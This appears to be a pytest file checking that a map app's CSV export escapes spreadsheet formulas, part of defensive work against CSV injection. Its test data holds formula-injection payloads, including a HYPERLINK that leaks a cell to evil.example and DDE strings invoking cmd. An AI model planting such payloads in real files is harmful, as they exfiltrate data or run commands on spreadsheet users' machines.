"""The office queue's CSV export opens in a spreadsheet as text: no cell is a live formula."""

import csv
import io

import pytest

from mapapp.accounts import service as accounts
from mapapp.core.csv_export import safe_cell, write_csv
from mapapp.core.db import transaction
from tests.factories import office_id

PASSWORD = "correct horse battery staple"
MAPO = "11440-roads"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def manager(client, demo_db):  # type: ignore[no-untyped-def]
    with transaction() as session:
        accounts.create_user(
            session,
            email="csv@mapo.example",
            name="csv",
            role="manager",
            password=PASSWORD,
            office_id=office_id(session, MAPO),
        )
    response = client.post("/api/auth/login", json={"email": "csv@mapo.example", "password": PASSWORD})
    assert response.status_code == 200, response.text
    client.cookies.clear()
    return {"Authorization": f"Bearer {response.json()['token']}"}


def test_formula_descriptions_are_text_in_the_export(client, manager) -> None:  # type: ignore[no-untyped-def]
    ids = {}
    for description in FORMULAS:
        response = client.post(
            "/api/reports",
            json={
                "layer": "facilities",
                "category": "streetlight-out",
                "lat": 37.5663,
                "lon": 126.9016,
                "description": description,
            },
        )
        assert response.status_code == 201, response.text
        public_id = response.json()["id"]
        # The description as stored (the service trims surrounding white space).
        ids[public_id] = client.get(f"/api/reports/{public_id}").json()["properties"]["description"]
    response = client.get(f"/api/offices/{MAPO}/queue.csv", params={"category": "streetlight-out"}, headers=manager)
    assert response.status_code == 200
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"), newline=""))}
    for public_id, description in ids.items():
        assert description[0] in "=+-@"
        # The original text after the quote, and nothing a spreadsheet evaluates.
        assert rows[public_id]["description"] == "'" + description
    # Numbers stay numbers: a coordinate is data we wrote, not a formula.
    assert all(not row["lat"].startswith("'") and float(row["lat"]) for row in rows.values())


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("가로등 = 고장", "가로등 = 고장"),
        ("", ""),
        (-126.9, -126.9),
        (None, None),
    ],
)
def test_safe_cell(value, expected) -> None:  # type: ignore[no-untyped-def]
    assert safe_cell(value) == expected


def test_write_csv_keeps_the_columns_and_quotes_csv_syntax() -> None:
    text = write_csv([{"a": '=1,"2"', "b": 3, "extra": "ignored"}], ["a", "b"])
    assert text.splitlines() == ["a,b", '"\'=1,""2""",3']
